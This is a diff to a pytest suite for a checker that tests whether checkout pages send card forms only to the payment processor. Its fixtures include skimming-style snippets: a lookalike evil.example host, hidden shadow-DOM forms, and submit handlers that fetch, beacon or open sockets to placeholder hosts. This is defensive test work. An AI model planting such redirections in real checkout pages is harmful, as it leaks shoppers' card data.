@@ -193,28 +193,83 @@ def test_a_promised_page_is_there_or_the_promise_is_broken(page, expected):
 needs_browser = pytest.mark.skipif(
     not any(map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), reason="no Chromium on this machine"
 )
+THEIRS = "<form action='https://secure.pay.example/x'><input name=card>{}</form>"
+
+
+def component(mode, action="/own", field="card"):
+    """Return a web component with a form of its own."""
+    return (
+        f"<own-{mode}></own-{mode}><script>customElements.define('own-{mode}', class extends HTMLElement {{"
+        f"constructor() {{ super(); this.attachShadow({{mode: '{mode}'}}).innerHTML ="
+        f"'<form action={action}><input name={field}></form>' }} }})</script>"
+    )
+
+
+def scripted(does):
+    """Return their form with a script that does something when it is sent."""
+    return THEIRS.format("") + f"<script>[...document.forms].pop().onsubmit = function(event) {{ {does} }}</script>"
+
+
+LEADING = {
+    "<form action='/paid'><input name=card></form>": HOST + " (not encrypted)",
+    "<form action='https://pay.example.evil.example/'></form>": "pay.example.evil.example",
+    "<form action='http://pay.example/'></form>": "pay.example (not encrypted)",
+    "<iframe src='https://frame.example/'></iframe>": "frame.example",
+    THEIRS.format("<button formaction='https://button.example/'>go</button>"): "button.example",
+    "<script>document.write('<form action=https://written.example/><input></form>')</script>": "written.example",
+    component("open", "https://open.example/"): "open.example",
+    component("closed", "https://closed.example/"): "closed.example",
+    "<div><template shadowrootmode=closed><form action=https://tree.example/><input></form></template></div>":
+        "tree.example",
+    "<iframe srcdoc='<form action=https://inner.example/><input></form>'></iframe>": "inner.example",
+    scripted(
+        "event.preventDefault(); fetch('https://fetched.example/', {method: 'POST', body: 'x'});"
+        "new WebSocket('wss://socket.example/'); navigator.sendBeacon('https://beacon.example/')"
+    ): "fetched.example socket.example beacon.example",
+    scripted("this.action = 'https://turned.example/'"): "turned.example",
+    THEIRS.format("<button type=button onclick=\"fetch('https://clicked.example/', {method: 'POST'})\">go</button>"):
+        "clicked.example",
+}  # fmt: skip
+"""What stands on a checkout → the hosts to which it leads, words apart."""
+
+
+@needs_browser
+def test_a_checkout_that_leads_elsewhere_is_found_however_it_does():
+    """Its buttons are pressed, and nothing of that reaches anybody."""
+    found, targets, asked = visited({"/pay": "".join(LEADING)}, checkouts=["/pay"])
+    places = found.resources[0].body["postsTo"]
+    led = {code: hosts for code, hosts in LEADING.items() if hosts not in places}
+    assert [code for code, hosts in led.items() if not set(hosts.split()) <= set(places)] == []
+    assert verdict(CHECKOUT, found, targets)[0] is Verdict.BROKEN
+    assert "/paid" not in asked
+
+
+@needs_browser
+def test_a_checkout_that_leads_to_the_processor_alone_is_kept():
+    """What turns a wheel or shows a field sends nothing; what a script sends goes to them, too."""
+    page = (
+        THEIRS.format("<input required><button type=button>show</button><button>go</button>")
+        + scripted("new Image().src = '/wheel.png'")
+        + scripted("event.preventDefault(); fetch('https://api.pay.example/x')")
+        + "<iframe src='https://pay.example/frame'></iframe>"
+    )
+    found, targets, _ = visited({"/pay": page}, checkouts=["/pay"])
+    assert verdict(CHECKOUT, found, targets)[0] is Verdict.KEPT, found
 
 
 @needs_browser
 @pytest.mark.parametrize(
-    ("page", "expected"),
+    "page",
     [
-        pytest.param("<form action='https://secure.pay.example/x'><input name=card></form>", Verdict.KEPT, id="theirs"),
-        pytest.param("<iframe src='https://pay.example/frame'></iframe>", Verdict.KEPT, id="their frame"),
-        pytest.param("<form action='/paid'><input name=card></form>", Verdict.BROKEN, id="ours"),
-        pytest.param("<form action='https://pay.example.evil.example/'></form>", Verdict.BROKEN, id="a name alike"),
-        pytest.param("<form action='http://pay.example/'></form>", Verdict.BROKEN, id="not encrypted"),
-        pytest.param("<form action='https://pay.example/'><button formaction='/x'>go</button></form>", Verdict.BROKEN,
-                     id="a button of ours"),
-        pytest.param("<script>document.write('<form action=/x><input name=card></form>')</script>", Verdict.BROKEN,
-                     id="written by a script"),
-        pytest.param("<form action='https://pay.example/'></form><input name=card>", Verdict.UNPROVEN, id="a script's"),
-        pytest.param("<img src='https://pay.example/logo.png'>", Verdict.UNPROVEN, id="their picture alone"),
-        pytest.param((500, {}, ""), Verdict.UNPROVEN, id="at fault"),
+        pytest.param(THEIRS.format("") + "<input name=card>", id="a script's"),
+        pytest.param(THEIRS.format("") + "<div contenteditable>4111</div>", id="a text that is written in"),
+        pytest.param(scripted("event.preventDefault()"), id="held back by a script"),
+        pytest.param("<img src='https://pay.example/logo.png'>", id="their picture alone"),
+        pytest.param((500, {}, ""), id="at fault"),
     ],
-)  # fmt: skip
-def test_a_checkout_leads_to_the_processor_alone(page, expected):
-    assert told({"/pay": page}, CHECKOUT, checkouts=["/pay"]) is expected
+)
+def test_a_checkout_of_which_it_is_not_known_where_it_leads_proves_nothing(page):
+    assert told({"/pay": page}, CHECKOUT, checkouts=["/pay"]) is Verdict.UNPROVEN
 
 
 def test_a_checkout_that_no_browser_saw_proves_nothing(no_browser):
@@ -240,6 +295,8 @@ SCRIPTED = {
     "new WebSocket('ws://203.0.113.10/x')": "203.0.113.10",
     "new Image().src = 'https://pictures.example/1.gif'": "pictures.example",
     "document.write('<form><input name=birthday></form>')": "birthday",
+    component("open", field="iban")[len("<own-open></own-open><script>") : -len("</script>")]
+    + "; document.write('<own-open></own-open>')": "iban",
 }
 """What a script does → by what it shows."""
 
